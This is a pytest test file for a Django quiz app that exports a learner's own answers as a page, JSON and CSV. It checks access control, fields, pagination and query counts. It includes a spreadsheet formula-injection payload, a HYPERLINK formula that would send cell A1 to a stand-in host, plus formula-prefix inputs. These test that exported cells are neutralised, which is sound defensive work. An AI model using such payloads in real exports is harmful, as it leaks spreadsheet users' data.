"""All her answers: on a page, as JSON and as a table; hers alone."""

import csv
import io
import json
from datetime import datetime, timedelta
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from quizzes.exports.answers import make_inert
from quizzes.models import Answer, AskedQuestion, Challenge, Learner, Mark, QuizSession
from quizzes.reports.answers import PAGE, list_answers
from quizzes.services.decide_remarks import Decided, accept_challenge
from tests.accounts.people import sign_up
from tests.factories import UserFactory
from tests.quizzes.sitting import Sitting

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1;"press")'
URLS = [reverse(f"quizzes:{name}") for name in ("answers", "answers-json", "answers-csv")]


def copy_answer(answer: Answer, times: int) -> None:
    """The same answer many times more, in sessions of their own."""
    learner, asked, at = answer.learner, answer.asked, answer.answered_at
    for _time in range(times):
        learner.answers_given += 1
        session = QuizSession.objects.create(learner=learner, started_at=at)
        again = AskedQuestion.objects.create(
            session=session, position=0, question=asked.question, shown=asked.shown, order_seed=1, asked_at=at
        )
        row = Answer.objects.get(pk=answer.pk)
        row.pk, row.asked, row.learner_seq = None, again, learner.answers_given
        row.answered_at = at + timedelta(seconds=learner.answers_given)
        row.save(force_insert=True)
        Mark.objects.create(answer=row, fact_key=row.fact_key, verdict="wrong", marked_at=at)
    learner.save()


@pytest.mark.parametrize("url", URLS)
def test_only_the_owner_sees_an_answer(client: Client, hadrut: None, url: str) -> None:
    sign_up(client, "ada")
    Sitting.begin(client).answer_wrong()
    Answer.objects.update(text="something only Ada wrote", fact_key="fact:ada")
    classmate, stranger = Client(), Client()
    sign_up(classmate, "ben")
    Sitting.begin(classmate).answer_right()
    prompt = Answer.objects.get(text="something only Ada wrote").asked.shown.content["prompt"]
    assert json.dumps(prompt)[1:9] in client.get(url).content.decode() or prompt in client.get(url).content.decode()
    assert "fact:ada" not in classmate.get(url).content.decode()
    assert classmate.get(url).status_code == stranger.get(url).status_code == 200
    assert prompt not in stranger.get(url).content.decode()


def test_json_has_every_answer_whole(client: Client, hadrut: None) -> None:
    sitting = Sitting.begin(client, time_zone="Asia/Yerevan")
    sitting.answer_right()
    sitting.answer_wrong()
    reply = client.get(reverse("quizzes:answers-json"))
    assert reply["Content-Disposition"] == 'attachment; filename="attest-answers.json"'
    content = json.loads(reply.content)
    assert content["format"] == "attest-answers/1"
    assert content["time_zone"] == "Asia/Yerevan"
    assert [row["verdict"] for row in content["answers"]] == ["right", "wrong"]
    for row, answer in zip(content["answers"], Answer.objects.order_by("learner_seq"), strict=True):
        assert row["number"] == answer.learner_seq
        assert row["question"] == answer.asked.shown.content["prompt"]
        assert row["fact"] == answer.fact_key
        assert datetime.fromisoformat(row["answered_at"]) == answer.answered_at
        assert row["session"] == str(sitting.session.key)


def test_files_say_the_first_verdict_where_it_is_another_and_what_the_editors_replied(
    client: Client, hadrut: None, now: datetime
) -> None:
    sitting = Sitting.begin(client)
    sitting.answer_wrong()
    client.post(reverse("quizzes:session-contest", args=[sitting.session.key, 0]), {"text": "My book says so."})
    sitting.answer_wrong()
    untold = [(row["first_verdict"], row["outcome"], row["reply"]) for row in both_files(client)]
    assert untold == [("", "", "")] * 4
    assert isinstance(accept_challenge(Challenge.objects.get(), UserFactory.create().pk, "=So it does.", now), Decided)
    told = both_files(client)
    columns = ("verdict", "first_verdict", "remark", "outcome")
    decided, other = ("right", "wrong", "My book says so.", "accepted"), ("wrong", "", "", "")
    assert [tuple(row[column] for column in columns) for row in told] == [decided, other] * 2
    # In a spreadsheet an editor's words are no formula either.
    assert [row["reply"] for row in told] == ["=So it does.", "", "'=So it does.", ""]


def both_files(client: Client) -> list[dict[str, Any]]:
    """The rows of the JSON file, then those of the table."""
    rows = json.loads(client.get(reverse("quizzes:answers-json")).content)["answers"]
    table = client.get(reverse("quizzes:answers-csv")).content.decode("utf-8-sig")
    return [*rows, *csv.DictReader(io.StringIO(table, newline=""))]


def test_table_opens_in_a_spreadsheet_and_runs_nothing(client: Client, hadrut: None) -> None:
    Sitting.begin(client).answer_wrong()
    answer = Answer.objects.get()
    typed = {**answer.asked.shown.content, "form": "typed", "prompt": 'Wo, „Hadrut“\n"wann"? Հադրութ'}
    type(answer.asked.shown).objects.filter(pk=answer.asked.shown_id).update(content=typed)
    Answer.objects.update(text=FORMULA, value="")
    raw = client.get(reverse("quizzes:answers-csv")).content
    assert raw.startswith(b"\xef\xbb\xbf")
    [row] = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    assert row["answered"] == f"'{FORMULA}"
    assert row["question"] == typed["prompt"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\n=1"])
def test_a_cell_that_begins_like_a_formula_is_text(text: str) -> None:
    assert make_inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["9 October 2020", "Hadrut = Հադրութ", "", "'quoted"])
def test_any_other_cell_is_left_as_it_is(text: str) -> None:
    assert make_inert(text) == text


def test_pages_follow_each_other_by_number_without_gap_or_double(client: Client, hadrut: None) -> None:
    Sitting.begin(client).answer_wrong()
    copy_answer(Answer.objects.get(), 7)
    learner, seen, before = Learner.objects.get(), [], None
    for _page in range(3):
        page = list_answers(learner, before=before, limit=3)
        seen += [line.number for line in page.lines]
        before = page.before
    assert seen == [8, 7, 6, 5, 4, 3, 2, 1]
    assert before is None


@pytest.mark.parametrize("before", ["0", "-1", "x", "9" * 30, ""])
def test_a_broken_page_number_is_no_error(client: Client, hadrut: None, before: str) -> None:
    Sitting.begin(client).answer_right()
    assert client.get(reverse("quizzes:answers"), {"before": before}).status_code == 200


@pytest.mark.parametrize("url", URLS)
def test_more_answers_take_no_more_queries(client: Client, hadrut: None, url: str) -> None:
    Sitting.begin(client).answer_wrong()
    counts = []
    for more in (4, 30):
        copy_answer(Answer.objects.order_by("pk")[0], more)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]
    assert PAGE > 35  # both are one page
